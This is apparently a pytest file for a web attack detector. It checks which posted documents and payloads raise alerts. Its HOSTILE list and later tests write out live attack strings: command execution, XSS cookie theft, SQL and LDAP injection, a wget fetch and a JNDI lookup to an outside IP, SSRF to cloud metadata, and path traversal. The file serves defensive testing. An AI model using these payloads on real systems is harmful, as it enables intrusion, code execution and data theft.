"""Programs, statements, pages and notes that are posted to be kept: hints at most; what attackers write into them alerts."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from mirage.analysis.http.documents import is_document, is_inert
from mirage.analysis.http.engine import example, shipped_engine

MODULE = "const http = require('http');\nmodule.exports = (req, res) => res.send(process.env.NAME);\n"
SCRIPT = "#!/bin/sh\nfor f in *.log; do\n  gzip $f && rm -f $f.old\ndone\n"
TABLE = "CREATE TABLE birds (id INT, name TEXT);\nINSERT INTO birds VALUES (1, 'wren');"
PAGE = '<h2>Video</h2><iframe src="https://video.example.com/5"></iframe><form action="/a"><input></form>'
PIPELINE = "steps:\n  - run: |\n      npm ci && npm test\n"

ORDINARY = [
    {"language": "js", "content": MODULE},
    {"files": [{"name": "a.sh", "content": SCRIPT}]},
    {"title": "birds", "sql": TABLE},
    {"query": "SELECT count(*) FROM birds WHERE seen > now() - interval '2 days'"},
    {"content": PAGE},
    {"content": PIPELINE},
    {"body": "Run `cd site && make clean` and then look at `/etc/nginx/nginx.conf` again"},
    {"body": "```js\n" + MODULE + "```"},
    {"text": "Our filter lets `<img src=x onerror=go()>` through, and `1' OR 1=1 --` too"},
    {"redirect_uris": ["http://localhost:5000/done", "http://127.0.0.1/done"]},
    {"filter": "(&(objectClass=person)(cn=anna))"},
    {"target": "a[href='javascript:void(0)']"},
]

HOSTILE = [
    {"code": "@exec(\"raise Exception(__import__('subprocess').check_output(['id']))\")\ndef f():\n  pass"},
    {"content": "<?php\n$a = $_POST['a'];\nsystem($a);\n"},
    {"content": "const c = require('child_process');\nc.execSync('id');\n"},
    {"content": '<p>Hello</p><img src=x onerror="go(document.cookie)">'},
    {"query": "SELECT name FROM birds WHERE id=1 UNION SELECT password FROM users"},
    {"body": "hello `id`; wget http://198.51.100.7/a"},
    {"body": "Look at `this` ${jndi:ldap://198.51.100.7/a} please"},
    {"url": "http://localhost:2375/containers/json"},
    {"redirect_uri": "http://169.254.169.254/latest/meta-data/"},
    {"filter": "(&(objectClass=person)(cn=*))(|(uid=*))"},
    {"target": "javascript:void(0);go()"},
    {"filter": "x' OR 'a'='a"},
    {"query": "5 UNION SELECT sum(a) FROM b[5m]"},
]


@pytest.mark.parametrize("value", ORDINARY, ids=lambda value: json.dumps(value)[:50])
def test_what_is_posted_to_be_kept_is_no_alert(value: object) -> None:
    request = example({"method": "POST", "uri": "/api/x", "headers": {"Content-Type": "application/json"}, "body": json.dumps(value)})
    assert not shipped_engine().assess(request).alert


@pytest.mark.parametrize("value", HOSTILE, ids=lambda value: json.dumps(value)[:50])
def test_what_attackers_put_into_such_texts_is_an_alert(value: object) -> None:
    request = example({"method": "POST", "uri": "/api/x", "headers": {"Content-Type": "application/json"}, "body": json.dumps(value)})
    assert shipped_engine().assess(request).alert


def test_a_tool_of_a_developer_has_its_answer_sent_to_its_own_machine() -> None:
    address = quote("http://localhost:8085/callback", safe="")
    assert not shipped_engine().assess(example({"uri": f"/authorize?client_id=a&redirect_uri={address}"})).alert
    assert shipped_engine().assess(example({"uri": f"/fetch?url={address}"})).alert


def test_a_search_for_a_function_is_no_call_of_it() -> None:
    assert is_document(b"sleep(5) python", "value q")
    assert not is_document(b"sleep(5)", "value q")
    assert not is_document(b"one or sleep(5)", "value q")


def test_a_document_is_known_by_what_it_is_and_where_it_stands() -> None:
    assert is_document(MODULE.encode(), "value content")
    assert not is_document(MODULE.encode(), "header x-a")
    assert not is_document(b"module.exports", "value content")
    assert is_document(b"SELECT a FROM b", "value sql")
    assert not is_document(b"SELECT a FROM b", "value id")


def test_only_what_begins_inside_of_a_quotation_is_inert() -> None:
    text = b"we saw `a=1 or 1=1` in it and 1=1"
    assert is_inert(text, "value body", text.index(b"1 or"), ())
    assert not is_inert(text, "value body", text.rindex(b"1=1"), ())
    assert not is_inert(text, "cookie a", text.index(b"1 or"), ())


def test_a_command_in_backquotes_behind_a_value_is_no_quotation() -> None:
    assert not is_inert(b"8.8.8.8;`id`", "value host", 8, ())
    assert not is_inert(b"`id`", "value host", 0, ())


def test_a_path_with_words_around_it_opens_no_file() -> None:
    sentence = b"somebody wrote that ../../etc/hosts is a path to look at"
    at = sentence.index(b"..")
    assert is_inert(sentence, "value text", at, ["lfi"])
    assert not is_inert(sentence, "value text", at, ["rce"])
    assert not is_inert(b"../../etc/hosts is a path", "value text", 0, ["lfi"])
    assert not is_inert(b"somebody wrote ../../etc/hosts\x00 as a path", "value text", 15, ["lfi"])
